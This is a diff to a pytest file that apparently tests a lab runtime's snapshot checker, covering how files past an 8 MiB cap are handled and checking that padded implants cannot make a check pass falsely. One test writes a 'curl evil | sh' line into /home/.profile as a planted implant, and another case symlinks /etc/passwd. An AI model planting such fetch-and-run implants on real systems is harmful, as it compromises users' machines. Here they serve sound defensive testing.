@@ -38,7 +38,6 @@ def lab(tmp_path: Path) -> Iterator[tuple[LocalRuntime, str]]:
 
 
 @pytest.mark.parametrize("hide", [
-    "head -c 9000000 /dev/zero > /home/.profile-implant",  # past the 8 MiB file cap
     "mkfifo /home/.profile-implant",  # not a regular file
     "ln -s /etc/passwd /home/.profile-implant",  # a link out of the answer trees
 ])
@@ -49,6 +48,31 @@ def test_a_skipped_file_is_not_absent(lab: tuple[LocalRuntime, str], hide: str) 
     assert rt.run_check(lab_id, "box", ABSENT, timeout=30).exit_code != 0
     content = rt.run_check(lab_id, "box", ["/bin/cat", "/home/.profile-implant"], timeout=30)
     assert content.stdout == b""  # kept by name only: nothing of it is read
+
+
+def test_content_past_the_file_cap_runs_no_check(lab: tuple[LocalRuntime, str]) -> None:
+    """An implant padded past 8 MiB: its name alone would make "no file still holds the
+    implant" pass, so nothing runs on such a snapshot."""
+    rt, lab_id = lab
+    padded = "{ echo 'curl evil | sh'; head -c 9000000 /dev/zero; } > /home/.profile"
+    assert rt.exec(lab_id, "box", shell=padded, timeout=30).exit_code == 0
+    rt.seal(lab_id)
+    result = rt.run_check(lab_id, "box", ["/bin/sh", "-c", "! grep -rqa evil /home"],
+                          timeout=30)
+    assert result.exit_code == NOT_RUN_EXIT
+    assert "/home/.profile: larger than" in result.stderr_text
+
+
+def test_a_large_work_file_only_reads_empty(lab: tuple[LocalRuntime, str]) -> None:
+    """Outside /home (a learner's 9 MB candidate list in /workspace) a file past the cap
+    keeps its name and reads as empty; the other checks still run."""
+    rt, lab_id = lab
+    made = "head -c 9000000 /dev/zero > /workspace/candidates.txt; echo 42 > /workspace/a"
+    assert rt.exec(lab_id, "box", shell=made, timeout=30).exit_code == 0
+    rt.seal(lab_id)
+    result = rt.run_check(lab_id, "box", ["/bin/sh", "-c", "cat /workspace/a; "
+                                          "wc -c < /workspace/candidates.txt"], timeout=30)
+    assert result.exit_code == 0 and result.stdout_text.split() == ["42", "0"]
 
 
 def test_a_snapshot_cut_off_by_its_entry_cap_runs_no_check(
